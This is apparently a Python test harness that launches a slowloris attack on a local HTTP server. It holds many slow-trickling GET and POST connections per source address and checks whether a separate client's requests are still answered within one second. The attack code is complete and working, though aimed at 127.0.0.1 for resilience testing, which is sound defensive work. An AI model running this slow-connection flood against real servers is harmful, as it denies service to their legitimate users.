"""A slowloris attack on an HTTP server, and a client that must still be served.

slowloris.py PORT SPAN ATTACKER_ADDR...

Every attacker address opens as many connections as the server takes (up
to 80 each, more than any per-address limit it should have) and opens new
ones whenever the server closes some. Half of them trickle a request's
headers, the other half a POST body after complete headers: one byte on
each every 4 s, so an idle timeout never fires. Meanwhile a third client on
127.0.0.1 sends a complete GET every 0.5 s and waits at most 1 s for the
status line. After SPAN seconds it prints, one "key value..." a line:

  held ADDR N          connections ADDR had open after its first second
  probes N             requests the third client made
  served N             of them answered within 1 s
  worst S              the slowest answer in seconds (SPAN when none came)
  closed N MIN MAX     first-wave connections the server closed, and after
                       how many seconds from their connect (MIN and MAX are
                       -1 when it closed none)
"""
import socket
import sys
import time

PER_ADDR = 80
TRICKLE = 4.0
PROBE_EVERY = 0.5
PROBE_WAIT = 1.0

port = int(sys.argv[1])
span = float(sys.argv[2])
addrs = sys.argv[3:]


class Conn:
    def __init__(self, addr, n, first):
        self.addr = addr
        self.first = first
        self.sock = socket.socket()
        self.sock.bind((addr, 0))
        self.sock.settimeout(1)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.born = time.monotonic()
        if n % 2 == 0:
            start = b"GET /unsubscribe/slow HTTP/1.1\r\nHost: h\r\nX-Slow: "
        else:
            start = (b"POST /unsubscribe/slow HTTP/1.1\r\nHost: h\r\n"
                     b"Content-Type: application/x-www-form-urlencoded\r\n"
                     b"Content-Length: 1000\r\n\r\n")
        self.sock.send(start)

    def alive(self):
        """False once the server has closed or reset the connection."""
        try:
            data = self.sock.recv(4096)
        except BlockingIOError:
            return True
        except OSError:
            return False
        return data != b"" and self.alive()

    def trickle(self):
        try:
            self.sock.send(b"x")
        except OSError:
            pass


def top_up(conns, addr, first):
    """Opens connections for addr until it has PER_ADDR or the server refuses one."""
    mine = [c for c in conns if c.addr == addr]
    n = len(mine)
    while n < PER_ADDR:
        try:
            conns.append(Conn(addr, n, first))
        except OSError:
            break
        n += 1


def probe():
    """Seconds until the status line of a complete GET from 127.0.0.1, or None."""
    t0 = time.monotonic()
    try:
        s = socket.create_connection(("127.0.0.1", port), PROBE_WAIT, ("127.0.0.1", 0))
        s.settimeout(max(0.01, PROBE_WAIT - (time.monotonic() - t0)))
        s.sendall(b"GET /probe HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")
        got = s.recv(12)
        s.close()
    except OSError:
        return None
    dt = time.monotonic() - t0
    return dt if got.startswith(b"HTTP/1.1 ") and dt <= PROBE_WAIT else None


def main():
    t0 = time.monotonic()
    conns = []
    for a in addrs:
        top_up(conns, a, True)
    time.sleep(1)
    conns = [c for c in conns if c.alive()]
    for a in addrs:
        print("held %s %d" % (a, sum(1 for c in conns if c.addr == a)))
    closed = []
    probes = served = 0
    worst = 0.0
    next_trickle = time.monotonic() + TRICKLE
    while time.monotonic() - t0 < span:
        dt = probe()
        probes += 1
        if dt is not None:
            served += 1
        worst = max(worst, span if dt is None else dt)
        now = time.monotonic()
        keep = []
        for c in conns:
            if c.alive():
                keep.append(c)
            else:
                if c.first:
                    closed.append(now - c.born)
                c.sock.close()
        conns = keep
        if now >= next_trickle:
            for c in conns:
                c.trickle()
            next_trickle = now + TRICKLE
        for a in addrs:
            top_up(conns, a, False)
        time.sleep(max(0.0, PROBE_EVERY - (time.monotonic() - now)))
    print("probes %d" % probes)
    print("served %d" % served)
    print("worst %.3f" % worst)
    if closed:
        print("closed %d %.1f %.1f" % (len(closed), min(closed), max(closed)))
    else:
        print("closed 0 -1 -1")


main()
